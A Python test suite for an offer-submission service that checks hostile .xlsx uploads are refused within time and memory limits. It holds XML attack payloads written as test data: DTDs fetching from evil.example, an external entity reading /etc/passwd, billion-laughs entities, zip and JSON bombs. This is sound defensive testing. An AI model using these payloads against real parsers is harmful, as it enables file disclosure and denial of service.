"""Hostile workbooks: bombs bounded, broken or hostile XML refused with a sentence, always within time and memory.

The checks before openpyxl (offers.spreadsheets.bounds) are tested directly, on small workbooks and with limits
lowered where that keeps a test small; whatever openpyxl raises within the bounds, through the reading itself.
Then the hostile workbooks at full size through `read_workbook` (a child process under its limits), the real
`offerdesk` command and a real portal, as an attacker would send them: each refusal's sentence, its time (15 s)
and memory (300 MiB for the caller; the child's own limit), and the portal's other requests meanwhile (2 s).
"""

from __future__ import annotations

import asyncio
import html
import io
import os
import re
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest
from openpyxl import load_workbook
from temporalio.testing import WorkflowEnvironment

from offerdesk.config import Settings
from offerdesk.engine import Engine
from offerdesk.samples import sample_offer
from offers.documents import UnusableInputError, parse_offer_file
from offers.spreadsheets import bounds, read_workbook, sandbox, write_workbook
from offers.spreadsheets.bounds import check_workbook
from offers.spreadsheets.limits import column_index, column_letter
from offers.spreadsheets.reading import read_workbook_here
from schemas.portal import Role
from tests import workbooks as wb
from tests.commands import cli
from tests.portal import Portal, offer_in

MiB = 1 << 20
CALLER_MIB = 300
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _refused(data: bytes, source: str = "x.xlsx") -> str:
    with pytest.raises(UnusableInputError) as e:
        check_workbook(data, source)
    return str(e.value)


def _sheet(rows: bytes) -> bytes:
    """The template with its Tariffs sheet's data replaced."""
    return wb.with_parts(wb.template(), {wb.TARIFFS: wb.SHEET_HEAD + rows + wb.SHEET_TAIL})


# ---- the archive -------------------------------------------------------------------------------


def test_an_offer_s_workbook_passes_in_either_form() -> None:
    document = sample_offer("r1", "JP", lines=200, seed=1)
    check_workbook(write_workbook(document), "inline.xlsx")
    excel = wb.with_shared_strings(write_workbook(document))
    check_workbook(excel, "excel.xlsx")
    assert read_workbook_here(excel) == document


def test_what_is_not_a_zip_archive_is_refused() -> None:
    whole = wb.template()
    for data in (b'{"round_id": "r1"}', whole[: len(whole) // 2], b"PK\x03\x04" + b"\0" * 100):
        assert _refused(data) == (
            "x.xlsx: is not an .xlsx workbook (not a ZIP archive); save it as Excel workbook (.xlsx), or send the "
            "offer's JSON document"
        )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "hello")
    assert "has no [Content_Types].xml" in _refused(out.getvalue())


def test_parts_past_their_number_or_packed_otherwise_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "MAX_PARTS", 10)
    assert "x.xlsx: (archive): holds 16 parts, over the 10 a workbook may have" in _refused(wb.template())
    monkeypatch.undo()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    assert "[Content_Types].xml: the part is packed with method 12, not deflated as Excel packs" in _refused(
        out.getvalue()
    )


def test_a_part_s_declared_size_and_the_total_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "MAX_PART_BYTES", 5_000)
    assert _refused(wb.template()).startswith(
        "x.xlsx: xl/theme/theme1.xml: the part says it unpacks to 10,140 bytes, over the 5,000 bytes one part of "
        "a workbook may take"
    )
    monkeypatch.setattr(bounds, "MAX_PART_BYTES", 64 * MiB)
    monkeypatch.setattr(bounds, "MAX_UNPACKED_BYTES", 20_000)
    assert re.match(  # the running total, at the part that passes it
        r"x.xlsx: \(archive\): the workbook says it unpacks to [0-9,]+ bytes, over the 20,000 bytes a workbook may "
        "take",
        _refused(wb.template()),
    )


def test_what_a_part_unpacks_to_is_counted_whatever_its_header_says(monkeypatch: pytest.MonkeyPatch) -> None:
    # The directory's sizes are not trusted: without their check, the bytes are counted as they unpack.
    monkeypatch.setattr(bounds._Scan, "declared", lambda self, infos: None)
    monkeypatch.setattr(bounds, "MAX_PART_BYTES", 5_000)
    assert "xl/theme/theme1.xml: the part unpacks to more than 5,000 bytes, over the 5,000 bytes" in _refused(
        wb.template()
    )
    monkeypatch.setattr(bounds, "MAX_PART_BYTES", 64 * MiB)
    message = _refused(wb.packed_tight(padding=3_000_000))
    assert (
        message.startswith("x.xlsx: Tariffs: the sheet's part xl/worksheets/sheet3.xml unpacks to more than 1,")
        and "more than the 100 times its packed size a part may unpack to" in message
    )
    monkeypatch.setattr(bounds, "MAX_UNPACKED_BYTES", 20_000)
    assert "x.xlsx: (archive): the workbook unpacks to more than 20,000 bytes" in _refused(wb.template())


def test_a_part_packed_past_the_ratio_is_refused_by_its_header() -> None:
    message = _refused(wb.packed_tight(padding=3_000_000))
    assert message.startswith("x.xlsx: Tariffs: the sheet's part xl/worksheets/sheet3.xml says it unpacks to 3,")
    assert "more than the 100 times its packed size a part may unpack to (a sheet packs about 8 to 1)" in message
    # Small parts pack at any ratio: 900 KB of spaces is fine.
    check_workbook(wb.packed_tight(padding=900_000), "x.xlsx")


def test_a_header_lying_about_a_size_or_damaged_bytes_cannot_pass() -> None:
    # The header says 100 bytes: zipfile stops there, and the CRC of the real bytes does not match.
    lying = wb.declaring(wb.template(), wb.TARIFFS, 100)
    assert "x.xlsx: Tariffs: the sheet's part xl/worksheets/sheet3.xml cannot be unpacked (BadZipFile: Bad CRC-32" in (
        _refused(lying)
    )
    data = bytearray(wb.template())
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(wb.TARIFFS)
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + 10 : start + 60] = b"\xff" * 50
    assert "Tariffs: the sheet's part xl/worksheets/sheet3.xml cannot be unpacked (" in _refused(bytes(data))


# ---- XML ---------------------------------------------------------------------------------------


ENTITIES = {
    "a DTD alone": (
        b'<!DOCTYPE worksheet SYSTEM "http://evil.example/x.dtd">',
        "the part has a document type declaration (DTD), which no workbook's XML has",
    ),
    "an entity": (
        b'<!DOCTYPE worksheet [<!ENTITY a "aaaa">]>',
        "the part declares the entity 'a' in a document type (DTD); a workbook's XML declares no entities",
    ),
    "a parameter entity": (
        b'<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
        "the part declares the external entity 'p' ('http://evil.example/p.dtd')",
    ),
    "an external entity": (
        b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "the part declares the external entity 'xxe' ('file:///etc/passwd'), which would read another file into it",
    ),
}


@pytest.mark.parametrize("name", list(ENTITIES))
def test_a_dtd_or_entity_in_a_sheet_is_refused_naming_the_sheet(name: str) -> None:
    doctype, says = ENTITIES[name]
    sheet = b'<?xml version="1.0"?>\n' + doctype + b"<worksheet " + wb.MAIN + b"><sheetData/></worksheet>"
    data = wb.with_parts(wb.template(), {"xl/worksheets/sheet5.xml": sheet})
    message = _refused(data)
    assert message.startswith(
        "x.xlsx: 'Non-tariff barriers': " + says.replace("the part", "the sheet's part xl/worksheets/sheet5.xml")
    ), message


@pytest.mark.parametrize("part", ["[Content_Types].xml", "xl/workbook.xml", "docProps/core.xml", "xl/styles.xml"])
def test_a_dtd_in_any_other_part_is_refused_naming_the_part(part: str) -> None:
    original = zipfile.ZipFile(io.BytesIO(wb.template())).read(part)
    body = original.split(b"?>", 1)[1] if original.startswith(b"<?xml") else original
    hostile = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY lol "lol">]>' + body
    assert _refused(wb.with_parts(wb.template(), {part: hostile})).startswith(
        f"x.xlsx: {part}: the part declares the entity 'lol'"
    )


def test_broken_xml_is_refused_naming_where_and_a_part_cut_short_says_so() -> None:
    mismatched = _sheet(b"<row><c></row>")
    assert _refused(mismatched).startswith(
        "x.xlsx: Tariffs: the sheet's part xl/worksheets/sheet3.xml is not well-formed XML at line 2, column "
    )
    assert "(mismatched tag)" in _refused(mismatched)
    undeclared = _sheet(b'<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>')
    assert "(undefined entity)" in _refused(undeclared)
    message = _refused(wb.cut_short())
    assert message.startswith("x.xlsx: Tariffs: the sheet's part xl/worksheets/sheet3.xml is cut short at line 2")
    assert message.endswith(
        "save it again from your spreadsheet as Excel workbook (.xlsx), or send the offer's JSON document"
    )
    core = wb.with_parts(wb.template(), {"docProps/core.xml": b"<cp:coreProperties"})
    assert _refused(core).startswith("x.xlsx: docProps/core.xml: the part is cut short at line 1")


def test_elements_are_bounded_in_all_and_in_a_part_loaded_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounds, "MAX_XML_ELEMENTS", 100)
    assert "the workbook's XML goes on past 100 elements" in _refused(wb.template())
    monkeypatch.setattr(bounds, "MAX_XML_ELEMENTS", 2_000_000)
    # The theme aside (200 elements), the largest part loaded whole is the styles (104): a sheet may have more.
    data = wb.with_parts(
        _sheet(b"".join(wb.tariff_row(n) for n in range(2, 40))), {"xl/theme/theme1.xml": b"<a:theme xmlns:a='x'/>"}
    )
    monkeypatch.setattr(bounds, "MAX_PART_ELEMENTS", 104)
    check_workbook(data, "x.xlsx")
    monkeypatch.setattr(bounds, "MAX_PART_ELEMENTS", 100)
    assert _refused(data).startswith(
        "x.xlsx: xl/styles.xml: the part goes on past 100 XML elements, the most a part other than a sheet may have"
    )


# ---- shared strings, rows, columns, cells ------------------------------------------------------


def test_shared_strings_are_counted_as_they_come_or_refused_by_their_declared_count(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    head = b"<sst " + wb.MAIN + b' uniqueCount="12000000">'
    declared = wb.with_shared_strings(wb.template(), head + b"<si><t>x</t></si></sst>")
    assert _refused(declared) == (
        "x.xlsx: xl/sharedStrings.xml: the workbook's shared texts say they number 12,000,000, over the 200,000 a "
        "workbook may hold (an offer's sheets have at most 130,921 cells); delete what is not part of the offer, "
        "or send its JSON document"
    )
    monkeypatch.setattr(bounds, "MAX_SHARED_STRINGS", 100)
    counted = wb.with_shared_strings(wb.template(), wb.repeated(b"<sst " + wb.MAIN + b">", b"<si/>", 1000, b"</sst>"))
    assert "the workbook's shared texts number 101 and more, over the 100 a workbook may hold" in _refused(counted)


def test_rows_past_a_sheet_s_limit_are_refused_as_met(monkeypatch: pytest.MonkeyPatch) -> None:
    far = _sheet(wb.tariff_header() + b'<row r="100001"><c r="A100001"><v>1</v></c></row>')
    assert _refused(far) == ("x.xlsx: Tariffs!100001:100001: the sheet goes on past row 100,000; delete the rows below")
    offer = zipfile.ZipFile(io.BytesIO(wb.template())).read("xl/worksheets/sheet2.xml")
    offer = offer.replace(b"</sheetData>", b'<row r="1001"/></sheetData>')
    assert _refused(wb.with_parts(wb.template(), {"xl/worksheets/sheet2.xml": offer})) == (
        "x.xlsx: Offer!1001:1001: the Offer sheet goes on past row 1,000; delete the rows below"
    )
    monkeypatch.setattr(bounds, "MAX_SHEET_ROWS", 10)
    numbered_by_place = _sheet(b"<row><c><v>1</v></c></row>" * 11)  # rows without numbers count one by one
    assert _refused(numbered_by_place).startswith("x.xlsx: Tariffs!11:11: the sheet goes on past row 10")
    for nonsense in (b"x", b"1e300", b"-1", b"9" * 30):
        assert "is not a row" in _refused(_sheet(b'<row r="' + nonsense + b'"/>'))


def test_columns_and_cells_past_their_limits_are_refused_as_met(monkeypatch: pytest.MonkeyPatch) -> None:
    assert _refused(_sheet(b'<row r="1"><c r="BM1"/></row>')) == (
        "x.xlsx: Tariffs!BM1: the sheet goes on past column BL; its columns are the few named in row 1: delete the "
        "columns to their right"
    )
    assert _refused(_sheet(b'<row r="1">' + b"<c/>" * 65 + b"</row>")).startswith("x.xlsx: Tariffs!BM1: the sheet")
    assert _refused(_sheet(b'<row r="7">' + b'<c r="A7"/>' * 65 + b"</row>")).startswith(
        "x.xlsx: Tariffs!7:7: the row has more than 64 cells"
    )
    assert _refused(_sheet(b'<row r="1"><c r="XFD1"/></row>')).startswith("x.xlsx: Tariffs!XFD1: the sheet goes on")
    assert "'A0A1' in its part xl/worksheets/sheet3.xml is not a cell reference" in _refused(
        _sheet(b'<row r="1"><c r="A0A1"/></row>')
    )
    monkeypatch.setattr(bounds, "MAX_CELLS", 50)  # the Offer sheet's 24 cells count too
    assert _refused(_sheet(b"".join(wb.tariff_row(n) for n in range(2, 20)))).startswith(
        "x.xlsx: Tariffs!B7: the offer's sheets go on past 50 cells (an offer has at most 130,921); delete what is "
        "not part of the offer"
    )


def test_sheets_an_offer_is_not_read_from_are_not_bounded_by_rows_or_columns(tmp_path: Path) -> None:
    book = load_workbook(io.BytesIO(wb.template()))
    notes = book.create_sheet("Our own notes")
    notes.cell(150_000, 100, "a note far down and far right")
    path = tmp_path / "notes.xlsx"
    book.save(path)
    check_workbook(path.read_bytes(), "notes.xlsx")


def test_two_sheets_in_one_part_are_refused() -> None:
    data = wb.template()
    rels = zipfile.ZipFile(io.BytesIO(data)).read("xl/_rels/workbook.xml.rels")
    rels = rels.replace(b"worksheets/sheet4.xml", b"worksheets/sheet3.xml")
    assert _refused(wb.with_parts(data, {"xl/_rels/workbook.xml.rels": rels})).startswith(
        "x.xlsx: Quotas: the sheet is the same part (xl/worksheets/sheet3.xml) as the sheet 'Tariffs'"
    )


def test_column_letters() -> None:
    for index, letters in ((1, "A"), (26, "Z"), (27, "AA"), (64, "BL"), (702, "ZZ"), (703, "AAA"), (16_384, "XFD")):
        assert column_letter(index) == letters and column_index(letters) == index


# ---- what openpyxl raises within the bounds names the sheet ------------------------------------


def test_whatever_openpyxl_raises_is_a_refusal_naming_the_sheet() -> None:
    bignum = _sheet(wb.tariff_header() + b'<row r="2"><c r="C2"><v>' + b"9" * 244_000 + b"</v></c></row>")
    with pytest.raises(UnusableInputError) as e:
        read_workbook_here(bignum, "x.xlsx")
    assert str(e.value).startswith("x.xlsx: Tariffs: the sheet cannot be read (ValueError: Exceeds the limit")
    assert e.value.fields[0][0] == "Tariffs"
    no_such_text = wb.with_shared_strings(
        _sheet(wb.tariff_header() + b'<row r="2"><c r="A2" t="s"><v>99999</v></c></row>'),
        b"<sst " + wb.MAIN + b"><si><t>x</t></si></sst>",
    )
    with pytest.raises(UnusableInputError, match=r"^x.xlsx: Tariffs: the sheet cannot be read \(IndexError"):
        read_workbook_here(no_such_text, "x.xlsx")
    no_workbook = wb.with_parts(wb.template(), {"[Content_Types].xml": b"<Types/>"})
    with pytest.raises(UnusableInputError, match=r"^x.xlsx: is not an .xlsx workbook that can be read \(OSError"):
        read_workbook_here(no_workbook, "x.xlsx")


# ---- the child process -------------------------------------------------------------------------


@dataclass
class Watched:
    seconds: float = 0.0
    caller_growth: int = 0
    child_peak: int = 0


@contextmanager
def watched() -> Iterator[Watched]:
    """The time taken, the growth of this process's memory (RSS, sampled every 5 ms: its peak, not only its end)
    and the largest reading child's RSS."""
    me = psutil.Process()
    base = me.memory_info().rss
    found = Watched()
    peak = base
    stop = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not stop.is_set():
            peak = max(peak, me.memory_info().rss)
            for child in me.children():
                try:
                    if "offers.spreadsheets.sandbox" in " ".join(child.cmdline()):
                        found.child_peak = max(found.child_peak, child.memory_info().rss)
                except psutil.Error:
                    pass
            time.sleep(0.005)

    sampler = threading.Thread(target=sample)
    sampler.start()
    started = time.perf_counter()
    try:
        yield found
    finally:
        found.seconds = time.perf_counter() - started
        stop.set()
        sampler.join()
        found.caller_growth = peak - base


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "12 million shared strings": (
        wb.many_shared_strings,
        "bomb.xlsx: xl/sharedStrings.xml: the part says it unpacks to 204,000,1",
    ),
    "12 million shared strings, the header lying about their size": (
        wb.lying_shared_strings,
        "bomb.xlsx: xl/sharedStrings.xml: the workbook's shared texts number 200,001 and more, over the 200,000",
    ),
    "a million different shared strings": (
        wb.varied_shared_strings,
        "bomb.xlsx: xl/sharedStrings.xml: the workbook's shared texts number 200,001 and more, over the 200,000",
    ),
    "a header row of 244 KB": (
        wb.huge_header,
        "bomb.xlsx: Tariffs!BM1: the sheet goes on past column BL",
    ),
    "a million rows": (
        wb.too_many_rows,
        "bomb.xlsx: Tariffs!100001:100001: the sheet goes on past row 100,000; delete the rows below",
    ),
    "half a million cells": (
        wb.too_many_cells,
        "bomb.xlsx: Tariffs!B59996: the offer's sheets go on past 300,000 cells",
    ),
    "90,000 cell formats": (
        wb.many_styles,
        "bomb.xlsx: xl/styles.xml: the part goes on past 50,000 XML elements, the most a part other than a sheet",
    ),
    "25,001 tariff lines": (
        wb.too_many_lines,
        "bomb.xlsx: Tariffs!25002:25002: more than 25,000 rows; an offer takes at most 25,000 on this sheet",
    ),
    "a part packed 1,000 to 1": (
        wb.packed_tight,
        "bomb.xlsx: Tariffs: the sheet's part xl/worksheets/sheet3.xml says it unpacks to 50,000,",
    ),
    "a sheet cut short": (
        wb.cut_short,
        "bomb.xlsx: Tariffs: the sheet's part xl/worksheets/sheet3.xml is cut short at line 2",
    ),
    "billion laughs": (
        wb.billion_laughs,
        "bomb.xlsx: xl/sharedStrings.xml: the part declares the entity 'lol' in a document type (DTD)",
    ),
    "an external entity": (
        wb.external_entity,
        "bomb.xlsx: Tariffs: the sheet's part xl/worksheets/sheet3.xml declares the external entity 'xxe' "
        "('file:///etc/passwd')",
    ),
}


def _unless_busy(message: str) -> None:
    """Skip a timing when the machine is so busy that the reading had under half its time on a processor."""
    if "as the server is busy" in message:
        pytest.skip(f"the machine is too busy to time a reading: {message}")


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_workbook_is_refused_in_time_and_memory(name: str) -> None:
    build, says = HOSTILE[name]
    data = build()
    assert len(data) < 16 * MiB
    with watched() as took, pytest.raises(UnusableInputError) as e:
        parse_offer_file(data, "bomb.xlsx")  # as the portal's upload and the CLI read it
    _unless_busy(str(e.value))
    print(
        f"{name} ({len(data):,} bytes): {took.seconds:.2f} s, caller +{took.caller_growth / MiB:.0f} MiB, "
        f"child {took.child_peak / MiB:.0f} MiB"
    )
    assert str(e.value).startswith(says), str(e.value)
    assert "\n" not in str(e.value) and e.value.fields  # one sentence, and where, for the portal to show
    assert took.caller_growth < CALLER_MIB * MiB
    assert took.child_peak < sandbox.WORKBOOK_MEMORY


def test_a_full_schedule_in_excel_s_form_reads_quickly_in_little_memory() -> None:
    document = sample_offer("r-big", "KZ", lines=15_000, seed=4)
    data = wb.with_shared_strings(write_workbook(document))
    with watched() as took:
        try:
            again = read_workbook(data, "schedule.xlsx")
        except UnusableInputError as e:
            _unless_busy(str(e))
            raise
    print(
        f"15,000 lines, shared strings ({len(data):,} bytes): {took.seconds:.2f} s, "
        f"caller +{took.caller_growth / MiB:.0f} MiB, child {took.child_peak / MiB:.0f} MiB"
    )
    assert again == document
    assert took.caller_growth < CALLER_MIB * MiB


def test_a_workbook_past_the_time_or_memory_limit_is_refused_naming_it(monkeypatch: pytest.MonkeyPatch) -> None:
    data = wb.with_shared_strings(write_workbook(sample_offer("r-big", "KZ", lines=15_000, seed=4)))
    monkeypatch.setattr(sandbox, "WORKBOOK_SECONDS", 0.3)  # processor time: the child's own limit, 1 s at least
    # The real reader under its real limits, made ten times slower by a line tracer: reading this file took 0.9 s
    # of processor time on a quick machine, within the 1 s RLIMIT_CPU counts in, and how fast a machine reads must
    # not decide what this test sees.
    slowed = sandbox._BOOT.replace("; from offers", "; t = lambda *a: t; sys.settrace(t); from offers")
    assert slowed != sandbox._BOOT
    monkeypatch.setattr(sandbox, "_BOOT", slowed)
    with pytest.raises(UnusableInputError) as e:
        read_workbook(data, "slow.xlsx")
    assert str(e.value).startswith("slow.xlsx: took more than 0.3 s of processor time to read, the most a workbook")
    # When the caller's wait runs out first, the reading waited for the processor: the file is not to blame.
    monkeypatch.setattr(sandbox, "WORKBOOK_WAIT_SECONDS", 0.3)
    monkeypatch.setattr(sandbox, "_cpu_seconds", lambda pid: 0.1)
    with pytest.raises(UnusableInputError) as e:
        read_workbook(data, "slow.xlsx")
    assert str(e.value) == (
        "slow.xlsx: could not be read within 0.3 s as the server is busy (the reading had 0.1 s of processor "
        "time); send it again in a few minutes"
    )
    monkeypatch.undo()
    assert sandbox._cpu_seconds(os.getpid()) is not None and sandbox._cpu_seconds(-1) is None
    monkeypatch.setattr(sandbox, "WORKBOOK_MEMORY", 80 * MiB)
    with pytest.raises(UnusableInputError) as e:
        read_workbook(data, "big.xlsx")
    assert str(e.value).startswith("big.xlsx: needed more than 80 MiB of memory to read, the most a workbook may take")


def test_a_reader_that_stops_short_or_answers_nonsense_is_a_refusal_not_a_crash(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(sandbox, "_BOOT", "import os; os._exit(7)")
    with pytest.raises(UnusableInputError, match=r"^x.xlsx: could not be read \(the reader stopped with status 7\)"):
        read_workbook(wb.template(), "x.xlsx")
    for nonsense in ("document\\n{", "refused\\n[]", "refused\\n{}", "hello"):
        monkeypatch.setattr(sandbox, "_BOOT", f"import sys; sys.stdin.read(); sys.stdout.write('{nonsense}')")
        with pytest.raises(UnusableInputError, match=r"^x.xlsx: could not be read \(the reader gave no answer\)"):
            read_workbook(wb.template(), "x.xlsx")

    def no_process(*args: object, **kwargs: object) -> None:
        raise OSError(11, "Resource temporarily unavailable")

    monkeypatch.setattr(subprocess, "Popen", no_process)
    with pytest.raises(UnusableInputError) as e:
        read_workbook(wb.template(), "x.xlsx")
    assert str(e.value) == (
        "x.xlsx: could not be read now, as the server cannot start a reader (Resource temporarily unavailable); "
        "send it again in a few minutes"
    )


def test_the_reading_child_ends_with_its_caller(tmp_path: Path) -> None:
    """A caller killed with SIGKILL mid-read leaves no reader behind (PR_SET_PDEATHSIG)."""
    path = tmp_path / "schedule.xlsx"
    path.write_bytes(wb.with_shared_strings(write_workbook(sample_offer("r-big", "KZ", lines=15_000, seed=4))))
    caller = subprocess.Popen(
        [
            sys.executable,
            "-c",
            f"from offers.documents import load_offer; load_offer(__import__('pathlib').Path({str(path)!r}))",
        ],
        env={**os.environ},
    )
    try:
        deadline = time.monotonic() + 10
        readers: list[psutil.Process] = []
        while not readers and time.monotonic() < deadline:
            readers = [p for p in psutil.Process(caller.pid).children() if "sandbox" in " ".join(p.cmdline())]
            time.sleep(0.01)
        assert readers, "the caller started no reader"
        caller.kill()
        caller.wait()
        _, alive = psutil.wait_procs(readers, timeout=5)
        assert not alive
    finally:
        caller.kill()


# ---- the command line and the portal -----------------------------------------------------------

live = pytest.mark.asyncio(loop_scope="session")
ATTACKS = ["12 million shared strings", "billion laughs", "a sheet cut short", "half a million cells"]


@live
async def test_cli_refuses_hostile_workbooks_with_exit_2_and_a_sentence(
    env: WorkflowEnvironment, settings: Settings, engine: Engine, tmp_path: Path
) -> None:
    rid = await offer_in(engine, "INVITED", ["VN"])
    for name in ATTACKS:
        build, says = HOSTILE[name]
        path = tmp_path / "bomb.xlsx"
        path.write_bytes(build())
        started = time.perf_counter()
        code, out, err = await cli(env, settings, "offer", "submit", str(path), OFFERDESK_OPERATOR="neg-vn")
        took = time.perf_counter() - started
        assert code == 2, out + err
        assert "Traceback" not in err and says.replace("bomb.xlsx", str(path)) in err, err
        print(f"CLI, {name}: {took:.2f} s")
    card, _ = await engine.offer_card(rid, "VN")
    assert card.state.value == "INVITED" and not card.versions


def _portal_process(portal: Portal) -> psutil.Process:
    port = portal.url.rsplit(":", 1)[1]
    for child in psutil.Process().children(recursive=True):
        try:
            line = child.cmdline()
        except psutil.Error:
            continue
        if "portal" in line and port in line:
            return child
    raise AssertionError("no portal process")


@live
async def test_the_portal_refuses_hostile_uploads_and_keeps_answering(portal: Portal, engine: Engine) -> None:
    rid = await offer_in(engine, "INVITED", ["TH"])
    negotiator = portal.user(Role.NEGOTIATOR, "TH")
    process = _portal_process(portal)
    base = process.memory_info().rss
    peak = base
    url = f"/api/rounds/{rid}/offers/TH/versions/upload"
    slowest = 0.0
    done = asyncio.Event()

    async def meanwhile() -> None:
        nonlocal slowest, peak
        async with negotiator.api() as api:
            while not done.is_set():
                started = time.perf_counter()
                assert (await api.get("/api/me")).status_code == 200
                slowest = max(slowest, time.perf_counter() - started)
                peak = max(peak, process.memory_info().rss)
                await asyncio.sleep(0.05)

    watcher = asyncio.create_task(meanwhile())
    try:
        async with negotiator.api() as api:
            for name in ATTACKS:
                build, says = HOSTILE[name]
                data = await asyncio.to_thread(build)
                started = time.perf_counter()
                answer = await api.post(url, files={"file": ("bomb.xlsx", data, XLSX)})
                took = time.perf_counter() - started
                assert answer.status_code == 422, answer.text
                assert answer.json()["message"].startswith(says), answer.text
                assert answer.json()["fields"], answer.text
                print(f"portal, {name}: {took:.2f} s")
            # A JSON offer of 14 MiB of empty objects: five million values, refused before it is parsed.
            bomb = b"[" + b",".join([b"{}"] * 5_000_000) + b"]"
            sent = {
                "the request body": await api.post(
                    f"/api/rounds/{rid}/offers/TH/versions", content=bomb, headers={"content-type": "application/json"}
                ),
                "offer.json": await api.post(url, files={"file": ("offer.json", bomb, "application/json")}),
            }
            for source, answer in sent.items():
                assert answer.status_code == 422, answer.text
                said = answer.json()["message"]
                assert said.startswith(f"{source}: holds more than the 1,000,000 values"), said
        # Through the offer page's upload form: back to the page, which says why; never a 500.
        browser, csrf = await negotiator.browser_session()
        try:
            for name, data, says in (
                ("laughs.xlsx", wb.billion_laughs(), "laughs.xlsx: xl/sharedStrings.xml: the part declares the entity"),
                ("offer.json", bomb, "offer.json: holds more than the 1,000,000 values"),
            ):
                posted = await browser.post(
                    f"/rounds/{rid}/offers/TH/upload", data={"csrf": csrf}, files={"file": (name, data)}
                )
                assert posted.status_code == 303, posted.text
                page = await browser.get(posted.headers["location"])
                assert page.status_code == 200 and says in html.unescape(page.text), (name, page.text[-2000:])
        finally:
            await browser.aclose()
    finally:
        done.set()
        await watcher
    print(f"portal: /api/me at most {slowest:.2f} s; portal +{(peak - base) / MiB:.0f} MiB")
    assert peak - base < CALLER_MIB * MiB
    card, _ = await engine.offer_card(rid, "TH")
    assert card.state.value == "INVITED" and not card.versions


def test_workbooks_wait_for_one_of_a_few_readers_then_are_refused_as_busy(monkeypatch: pytest.MonkeyPatch) -> None:
    """A flood of uploads never runs more than READERS_AT_ONCE children (each up to 512 MiB): the rest wait for a
    reader, then are refused with a sentence that blames the server, not the file."""
    monkeypatch.setattr(sandbox, "READER_QUEUE_SECONDS", 0.2)
    taken = [sandbox._READERS.acquire(blocking=False) for _ in range(sandbox.READERS_AT_ONCE)]
    try:
        assert all(taken), "another reader was running"
        with pytest.raises(UnusableInputError) as busy:
            sandbox.read_in_child(write_workbook(sample_offer("r", "JP", lines=3)), "busy.xlsx")
        assert str(busy.value) == (
            f"busy.xlsx: could not be read now, as the server is reading {sandbox.READERS_AT_ONCE} other workbooks; "
            "send it again in a minute"
        )
    finally:
        for ok in taken:
            if ok:
                sandbox._READERS.release()
    offer = sandbox.read_in_child(write_workbook(sample_offer("r", "JP", lines=3)), "free.xlsx")
    assert len(offer.tariff_commitments) == 3  # a reader is free again
